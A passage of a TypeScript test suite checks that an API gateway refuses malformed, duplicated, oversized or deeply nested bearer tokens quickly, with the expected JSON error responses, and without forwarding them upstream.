    ['that also carries a header token', (t: string) => [`/api/ws?access_token=${t}`, { Authorization: `Bearer ${t}` }], 'multiple_token_sources'],
    ['whose query token decodes to more than a b64token', () => ['/api/ws?access_token=a%20b', {}], 'malformed_query_token'],
  ] as Array<[string, (t: string) => [string, Record<string, string>], string]>)('a query token on an upgrade %s → 400, no upgrade', async (_name, request, reason) => {
    const token = valid();
    const result = await upgrade(gw.port, ...request(token));
    expect(result.upgraded).toBe(false);
    if (!result.upgraded) await expectRefused(gw, upstream, result.response, invalidRequest(reason), [token]);
  });

  describe('a custom token header (tokens: [ { header: X-Access-Token } ])', () => {
    let custom: TestGateway;
    beforeAll(async () => {
      custom = await startTestGateway(`
version: 1
server: { listen: 127.0.0.1:0 }
admin: { listen: 127.0.0.1:0 }
tokens:
  - header: X-Access-Token
issuers:
${issuerYaml(idpB)}
upstreams:
  api: { url: ${upstream.url}, timeout: 2s }
routes:
  - { name: api, match: { path: /** }, upstream: api }
`);
    });
    afterAll(async () => {
      await custom?.close();
    });

    it('carries a bare token, so the refusals below are about its shape', async () => {
      const res = await rawRequest(custom.port, { target: '/api/x', headers: [['X-Access-Token', idpB.sign()]] });
      expect(res.status).toBe(200);
      expect(upstream.seen).toHaveLength(1);
    });

    it.each([
      ['sent twice', (t: string) => [['X-Access-Token', t], ['x-access-token', t]], 'multiple_token_headers'],
      ['with a Bearer scheme in front of the token', (t: string) => [['X-Access-Token', `Bearer ${t}`]], 'malformed_token_header'],
    ] as Array<[string, (t: string) => Array<[string, string]>, string]>)('%s → 400', async (_name, headers, reason) => {
      const token = idpB.sign();
      await refuses(custom, upstream, { target: '/api/x', headers: headers(token) }, invalidRequest(reason), [token]);
    });
  });

  it.each([
    ['a valid token padded past 8 KiB', () => accessToken({ pad: 'x'.repeat(9000) })],
    ['8 KiB + 1 of junk', () => `${'a'.repeat(8190)}.b.c`],
    ['a 20 KiB token (past Node\'s default 16 KiB header limit)', () => `${'a'.repeat(20_000)}.b.c`],
  ])('%s → 401 before any decoding, fast', async (_name, mint) => {
    const token = mint();
    const started = performance.now();
    const res = await rawRequest(gw.port, { target: '/api/x', headers: [bearer(token)] });
    expect(performance.now() - started).toBeLessThan(FAST_REFUSAL_MS);
    await expectRefused(gw, upstream, res, invalidToken('tooLong', 'token_too_long'), [token]);
  });

  it.each([
    ['600 claims', () => accessToken(Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`c${i}`, 0])))],
    ['arrays nested 2,000 deep', () => signedPayload(JSON.stringify(accessClaims()).replace('{', `{"d":${'['.repeat(2000)}${']'.repeat(2000)},`))],
    ['objects nested 500 deep', () => signedPayload(JSON.stringify(accessClaims()).replace('{', `{"d":${'{"a":'.repeat(500)}1${'}'.repeat(500)},`))],
  ])('a payload of %s under 8 KiB → 401 without verifying, fast', async (_name, mint) => {
    const token = mint();
    expect(token.length).toBeLessThanOrEqual(8192);
    const started = performance.now();
    const res = await rawRequest(gw.port, { target: '/api/x', headers: [bearer(token)] });
    expect(performance.now() - started).toBeLessThan(FAST_REFUSAL_MS);
    await expectRefused(gw, upstream, res, invalidToken('malformed', 'too_complex'), [token]);
  });

  it('a payload of tens of thousands of claims is refused fast, with a SPEC §7 answer, and never forwarded', async () => {
    // Far past the 32 KiB header limit: the HTTP parser refuses it before the gateway sees a request.
    const token = accessToken(Object.fromEntries(Array.from({ length: 30_000 }, (_, i) => [`c${i}`, 0])));
    const started = performance.now();
    const res = await rawRequest(gw.port, { target: '/api/x', headers: [bearer(token)] });
    expect(performance.now() - started).toBeLessThan(FAST_REFUSAL_MS);
    expect({
      status: res.status,
      body: res.json(),
      contentType: res.headers['content-type'],
      cacheControl: res.headers['cache-control'],
      nosniff: res.headers['x-content-type-options'],
    }).toEqual({
      status: 431,
      body: { error: 'request_header_fields_too_large', error_description: 'The request headers are too large', request_id: res.headers['x-request-id'] },
      contentType: 'application/json',
      cacheControl: 'no-store',
      nosniff: 'nosniff',
    });
    expect(upstream.seen).toEqual([]);
  });
});
